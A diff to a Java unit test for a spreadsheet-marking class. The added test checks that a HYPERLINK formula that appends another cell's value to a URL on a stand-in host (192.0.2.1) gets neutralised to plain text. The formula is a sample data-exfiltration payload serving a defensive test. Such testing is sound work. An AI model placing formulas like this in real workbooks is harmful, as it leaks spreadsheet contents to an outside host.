@@ -69,6 +69,23 @@ class MarkedWorkbookTest {
     }
 
     @Test
+    void givesNoFormulaBackThatReachesOut() throws IOException {
+        try (var workbook = new XSSFWorkbook()) {
+            var row = workbook.createSheet("花名册").createRow(0);
+            row.createCell(0).setCellFormula("HYPERLINK(\"http://192.0.2.1/?\"&B1,\"小满\")");
+            row.createCell(1).setCellFormula("1+1");
+            row.getCell(0).setCellValue("小满");
+            var marked = new MarkedWorkbook(bytes(workbook), Map.of(), List.of()).write();
+            try (var read = WorkbookFactory.create(new ByteArrayInputStream(marked.content()))) {
+                var cells = read.getSheetAt(0).getRow(0);
+                assertThat(cells.getCell(0).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+                assertThat(cells.getCell(0).getStringCellValue()).isEqualTo("小满");
+                assertThat(cells.getCell(1).getCellFormula()).isEqualTo("1+1");
+            }
+        }
+    }
+
+    @Test
     void neverComputesAFormula() throws IOException {
         try (var workbook = new XSSFWorkbook()) {
             var row = workbook.createSheet("花名册").createRow(0);
